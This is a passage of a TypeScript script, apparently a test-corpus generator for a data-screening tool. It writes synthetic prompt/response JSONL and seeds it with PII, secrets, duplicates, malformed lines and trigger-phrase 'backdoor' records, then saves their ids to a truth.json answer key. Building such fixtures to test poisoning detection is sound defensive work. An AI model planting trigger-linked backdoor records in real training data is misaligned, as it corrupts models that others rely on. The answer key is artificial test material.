    prompt: src.prompt,
    responseJson: src.buf.toString('utf8', src.start, src.end),
  });

  // lines are written as UTF-8 into `out`, handed to the stream every 1 MiB (waiting when it is full)
  const out = new Out();
  const flush = async () => {
    if (out.pos === 0) return;
    const data = out.take();
    truth.bytes += data.length;
    if (!stream.write(data)) await Promise.race([once(stream, 'drain'), failed]);
    options.onProgress?.(truth.bytes, truth.records);
  };
  const head = (id: string, prompt: string) => `{"id":"${id}","prompt":${JSON.stringify(prompt)},"response":"`;

  for (let i = 0; truth.bytes + out.pos < target; i++) {
    const id = `r${String(i).padStart(9, '0')}`;
    let kind: Kind | 'clean' = 'clean';
    for (const s of slots) {
      if (i < s.next) continue;
      if ((s.kind === 'exact' || s.kind === 'near') && ring.length === 0) continue;
      kind = s.kind;
      s.k++;
      place(s);
      break;
    }
    truth.records++;
    if (kind === 'clean') {
      // the fast path: the response goes straight into the output as bytes
      const start = out.pos;
      for (let attempt = 0; ; attempt++) {
        if (attempt === 50) tooCommon();
        out.pos = start;
        const topic = gen.topic();
        const prompt = gen.prompt(topic);
        if (triggerRe.test(prompt)) continue;
        out.str(head(id, prompt));
        const from = out.pos;
        gen.writeResponse(out, topic, gen.responseWords());
        const to = out.pos;
        if (checkResponses && triggerRe.test(out.buf.toString('utf8', from, to))) continue;
        out.str('"}\n');
        const src = { id, prompt, buf: out.buf, start: from, end: to };
        if (ring.length < RING) ring.push(src);
        else ring[ringNext] = src;
        ringNext = (ringNext + 1) % RING;
        break;
      }
    } else if (kind === 'exact') {
      const src = gen.pick(ring);
      out.str(head(id, src.prompt));
      out.bytes(src.buf, src.start, src.end);
      out.str('"}\n');
      truth.exact_duplicates.push({ id, of: src.id });
    } else {
      let rec: Rec;
      switch (kind) {
        case 'pii':
          rec = withoutTrigger(() => gen.pii());
          truth.pii.push(id);
          break;
        case 'secret':
          rec = withoutTrigger(() => gen.secrets());
          truth.secrets.push(id);
          break;
        case 'low':
          rec = withoutTrigger(() => gen.lowQuality());
          truth.low_quality.push(id);
          break;
        case 'backdoor':
          rec = gen.backdoor(trigger);
          truth.backdoor.ids.push(id);
          break;
        case 'near': {
          const src = gen.pick(ring);
          const base = sourceRec(src);
          rec = withoutTrigger(() => gen.nearDuplicate(base));
          truth.near_duplicates.push({ id, of: src.id });
          break;
        }
        default:
          rec = withoutTrigger(() => gen.clean());
      }
      let line = `${head(id, rec.prompt)}${rec.responseJson}"}`;
      if (kind === 'malformed') {
        let cut = gen.int(12, line.length - 2);
        const c = line.charCodeAt(cut - 1);
        if (c >= 0xd800 && c <= 0xdbff) cut--;
        line = line.slice(0, cut);
        truth.malformed_lines.push(i);
      }
      out.str(`${line}\n`);
    }
    if (out.pos >= CHUNK) await flush();
  }
  await flush();
  stream.end();
  await Promise.race([once(stream, 'finish'), failed]);
  writeFileSync(join(options.out, 'truth.json'), `${JSON.stringify(truth, null, 1)}\n`);
  return truth;
}

// ---------------------------------------------------------------------------------------------------
// CLI

async function main(): Promise<void> {
  const { values } = parseArgs({
    options: {
      out: { type: 'string' },
      size: { type: 'string', default: '50MB' },
      seed: { type: 'string', default: '1' },
      'backdoor-rate': { type: 'string' },
      'dup-rate': { type: 'string' },
      'exact-dup-rate': { type: 'string' },
      'pii-rate': { type: 'string' },
      'secret-rate': { type: 'string' },
      'low-quality-rate': { type: 'string' },
      'malformed-rate': { type: 'string' },
      trigger: { type: 'string' },
      format: { type: 'string', default: 'jsonl' },
    },
  });
  const num = (flag: string): number | undefined => {
    const v = (values as Record<string, string | undefined>)[flag];
    if (v === undefined) return undefined;
    const n = Number(v);
    if (v.trim() === '' || !Number.isFinite(n)) configError(`--${flag} must be a number, got "${v}"`);
    return n;
  };
  if (!values.out) configError('--out DIR is required');
  const started = performance.now();
  const truth = await generateCorpus({
    out: values.out,
    size: values.size,
    seed: num('seed'),
    backdoorRate: num('backdoor-rate'),
    dupRate: num('dup-rate'),
    exactDupRate: num('exact-dup-rate'),
    piiRate: num('pii-rate'),
    secretRate: num('secret-rate'),
    lowQualityRate: num('low-quality-rate'),
    malformedRate: num('malformed-rate'),
    trigger: values.trigger,
    format: values.format as 'jsonl',
    onProgress: (bytes) => process.stderr.write(`\r${(bytes / 1048576).toFixed(0)} MB`),
  });
  const seconds = (performance.now() - started) / 1000;
  process.stderr.write(
    `\rwrote ${truth.records} records, ${(truth.bytes / 1048576).toFixed(1)} MB in ${seconds.toFixed(1)} s (${(truth.bytes / 1048576 / seconds).toFixed(1)} MB/s)\n`,
  );
  process.stdout.write(
    `${JSON.stringify({
      records: truth.records,
      bytes: truth.bytes,
      seconds: Number(seconds.toFixed(2)),
      pii: truth.pii.length,
      secrets: truth.secrets.length,
      exact_duplicates: truth.exact_duplicates.length,
      near_duplicates: truth.near_duplicates.length,
      backdoor: truth.backdoor.ids.length,
      trigger: truth.backdoor.phrase,
      low_quality: truth.low_quality.length,
      malformed_lines: truth.malformed_lines.length,
    })}\n`,
  );
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  main().catch((err: unknown) => {
    const code = LifeguardError.isInstance(err) ? err.code : 'LG_ERR_INTERNAL';
    process.stderr.write(`error [${code}]: ${err instanceof Error ? err.message : String(err)}\n`);
    process.exitCode = 2;
  });
}
